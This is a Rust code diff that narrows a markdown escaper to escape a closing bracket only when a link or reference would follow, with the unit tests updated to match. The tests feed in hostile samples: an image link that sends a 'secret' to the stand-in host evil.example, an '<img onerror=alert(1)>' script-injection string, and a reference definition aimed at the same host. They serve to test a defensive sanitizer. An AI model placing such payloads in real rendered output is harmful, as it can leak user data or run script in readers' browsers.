@@ -140,9 +140,9 @@ static URL: LazyLock<Regex> = LazyLock::new(|| {
         .expect("valid regex")
 });
 
-/// Escapes what markdown would read as markup in running text: backslashes, brackets
-/// (links, images and reference definitions all need them), angle brackets (HTML,
-/// autolinks, comments), backticks (code spans) and table pipes. URLs
+/// Escapes what markdown would read as markup in running text: backslashes, a `]`
+/// that would close a link, an image or a reference definition, angle brackets
+/// (HTML, autolinks, comments), backticks (code spans) and table pipes. URLs
 /// become code spans, so they are shown and never fetched or followed.
 fn escape_inline(s: &str, out: &mut String) {
     let mut last = 0;
@@ -169,14 +169,18 @@ fn escape_inline(s: &str, out: &mut String) {
 }
 
 fn escape_chars(s: &str, out: &mut String) {
-    for c in s.chars() {
+    let mut chars = s.chars().peekable();
+    while let Some(c) = chars.next() {
         match c {
             '<' => out.push_str("&lt;"),
             '>' => out.push_str("&gt;"),
-            '\\' | '[' | ']' | '`' | '|' => {
+            '\\' | '`' | '|' => {
                 out.push('\\');
                 out.push(c);
             }
+            // A bracket makes a link or an image only when `(`, `[` or `:` follows
+            // it (inline, reference, definition); `[REDACTED:key]` stays as it is.
+            ']' if matches!(chars.peek(), Some('(' | '[' | ':')) => out.push_str("\\]"),
             c if is_unsafe(c) => stand_in(c, out),
             c => out.push(c),
         }
@@ -458,22 +462,26 @@ mod tests {
         }
     }
 
-    /// Whether `c` occurs without a backslash before it.
-    fn unescaped(s: &str, c: char) -> bool {
-        let mut prev = ' ';
-        s.chars().any(|x| {
-            let hit = x == c && prev != '\\';
-            prev = x;
-            hit
-        })
+    /// Whether `pat` occurs without a backslash before it.
+    fn unescaped(s: &str, pat: &str) -> bool {
+        s.match_indices(pat).any(|(i, _)| !s[..i].ends_with('\\'))
     }
 
     #[test]
     fn inline_markdown_is_text() {
         let s = md_inline("# Boom ![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)> [a][b]\n## second");
         assert!(!s.starts_with('#'), "{s}");
-        assert!(!unescaped(&s, '['), "{s}");
-        assert!(!unescaped(&s, ']'), "{s}");
+        for pat in ["](", "][", "]:"] {
+            assert!(!unescaped(&s, pat), "{pat} in {s}");
+        }
+        assert_eq!(
+            md_inline("key [REDACTED:stripe-key] gone"),
+            "key [REDACTED:stripe-key] gone"
+        );
+        assert!(!unescaped(
+            &md_inline("[ref]: https://evil.example/x"),
+            "]:"
+        ));
         assert!(!s.contains('<') && !s.contains('\n'), "{s}");
         assert!(s.contains("(`https://evil.example/?q=secret`)"), "{s}");
         assert_eq!(
@@ -496,7 +504,7 @@ mod tests {
         assert!(s.contains("\n- check `max_connections`"), "lists stay: {s}");
         assert!(md_text("a\n---\nb").contains("\\---"), "no setext heading");
         assert!(s.contains("&lt;script&gt;"), "{s}");
-        assert!(s.contains("!\\[x\\]"), "{s}");
+        assert!(s.contains("![x\\]("), "{s}");
         assert!(
             s.contains("```sh\nsystemctl restart <svc> # [x](y)\n```\nafter"),
             "code kept verbatim: {s}"
